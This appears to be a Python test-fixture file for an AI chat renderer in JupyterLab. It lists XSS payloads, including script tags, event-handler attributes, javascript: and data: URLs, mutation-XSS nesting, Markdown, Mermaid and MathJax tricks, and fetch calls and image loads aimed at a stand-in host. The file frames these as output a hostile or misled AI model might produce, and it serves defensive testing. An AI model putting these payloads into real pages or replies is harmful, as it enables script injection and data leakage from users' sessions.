"""Payloads that a hostile or misled model could write. Each tries to run a script, send a request or run a Lab command."""

from __future__ import annotations

from base64 import b64encode

__all__ = ["CANARY", "CLICKABLE", "ELSEWHERE", "PAYLOADS", "PICTURES", "SCRIPT", "SOURCES"]

ELSEWHERE = "http://collector.invalid"
"""An address to which nothing may send a request."""

CANARY = "canary:run"
"""A Lab command that the test registers and that nothing may execute."""

SCRIPT = "window.__pwned = (window.__pwned || 0) + 1"
"""A script that leaves traces."""

_COMMAND = f'data-commandlinker-command="{CANARY}" data-commandlinker-args="{{}}"'
_ATTACK = f"{SCRIPT}; fetch('{ELSEWHERE}/script')"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><image href="{ELSEWHERE}/i.png"/></svg>'

CLICKABLE = [f"click-{number}" for number in range(1, 12)]
"""The texts of the payloads that a person could click on."""

SOURCES = [
    {"title": f'<img src=x onerror="{_ATTACK}">', "url": f"javascript:{SCRIPT}"},
    {"title": f"[x](javascript:{SCRIPT}) ![y]({ELSEWHERE}/s.png)", "url": f"data:text/html,<script>{SCRIPT}</script>"},
    {"title": f"</li></ol><script>{_ATTACK}</script>", "url": f'{ELSEWHERE}/"><script>{SCRIPT}</script>'},
]
"""Sources that a hostile server could name, as Perplexity names them."""

PICTURES = [
    {"image_url": {"url": f"{ELSEWHERE}/picture.png"}},
    {"image_url": {"url": f"data:image/png;base64,{b64encode(_SVG.encode()).decode()}"}},
    {"image_url": {"url": f"data:image/svg+xml;base64,{b64encode(_SVG.encode()).decode()}"}},
]
"""Pictures that a hostile server could send, as OpenRouter sends them."""

PAYLOADS = [
    # scripts that run by themselves
    f"<script>{_ATTACK}</script>",
    f"<SCRIPT SRC={ELSEWHERE}/x.js></SCRIPT>",
    f'<img src=x onerror="{_ATTACK}">',
    f'<svg onload="{_ATTACK}"><script>{SCRIPT}</script></svg>',
    f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    f'<details open ontoggle="{SCRIPT}"><summary>more</summary>text</details>',
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<video autoplay onloadstart="{SCRIPT}"><source onerror="{SCRIPT}" src=x></video>',
    '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    f'<iframe src="javascript:parent.__pwned = 1"></iframe><object data="javascript:{SCRIPT}"></object>',
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='{SCRIPT}'&gt;\">",
    f"<style>@import '{ELSEWHERE}/a.css'; body {{ background: url({ELSEWHERE}/b.png) }}</style>",
    f'<link rel=stylesheet href="{ELSEWHERE}/c.css"><link rel=prefetch href="{ELSEWHERE}/d">',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/e"><base href="{ELSEWHERE}/">',
    f'<body onload="{SCRIPT}"><div style="background:url({ELSEWHERE}/f.png)" onmouseover="{SCRIPT}">hover</div>',
    # things fetched from elsewhere
    f'![one]({ELSEWHERE}/1.png) ![two][image] ![three](<{ELSEWHERE}/3.svg> "t")\n\n[image]: {ELSEWHERE}/2.png',
    "![protocol relative](//collector.invalid/4.png) ![entity](&#104;ttp://collector.invalid/5.png)",
    f'<img src="{ELSEWHERE}/6.png"><img srcset="{ELSEWHERE}/7.png 2x"><audio src="{ELSEWHERE}/8" autoplay></audio>',
    f'<picture><source srcset="{ELSEWHERE}/9.png"><img src="/api/shutdown"></picture>',
    "![the server's own address](/api/contents?canary=1) ![file](../../api/kernels?canary=2)",
    # commands and scripts behind a click
    f"<button {_COMMAND}>click-1</button>",
    f"<a href='#' {_COMMAND}>click-2</a>",
    f"[click-3](javascript:{SCRIPT.replace(' ', '')})",
    f"[click-4](<java&#115;cript:{SCRIPT}>) [click-5](data:text/html,<script>opener.__pwned=1</script>)",
    f"[click-6](vbscript:x){{ {_COMMAND} }} [*click-7*](#commandlinker:{CANARY})",
    f'<form action="javascript:{SCRIPT}"><button>click-8</button></form>',
    f'<div onclick="{SCRIPT}">click-9</div>',
    f'<a xlink:href="javascript:{SCRIPT}" href="javascript:{SCRIPT}">click-10</a>',
    # extensions of Markdown
    f"```mermaid\ngraph TD\nA[click-11] --> B[<img src={ELSEWHERE}/m.png onerror='{SCRIPT}'>]\n"
    f'click A call alert("x")\nclick B href "javascript:{SCRIPT}"\n```',
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$ $$\\includegraphics{{{ELSEWHERE}/n.png}} \\require{{html}}\\class{{x}}{{y}}$$",
    f"| a |\n|---|\n| <img src=x onerror='{SCRIPT}'> |",
    f"<!-- --><img src=x onerror='{SCRIPT}'> <![CDATA[<script>{SCRIPT}</script>]]>",
    f"`` ` `` <img src=x onerror='{SCRIPT}'> ```<script>{SCRIPT}</script>```",
    f"[ref]: javascript:{SCRIPT}\n\n<x-unknown onpointerover='{SCRIPT}'>custom</x-unknown>",
]
"""Blocks of Markdown; blank lines join them."""
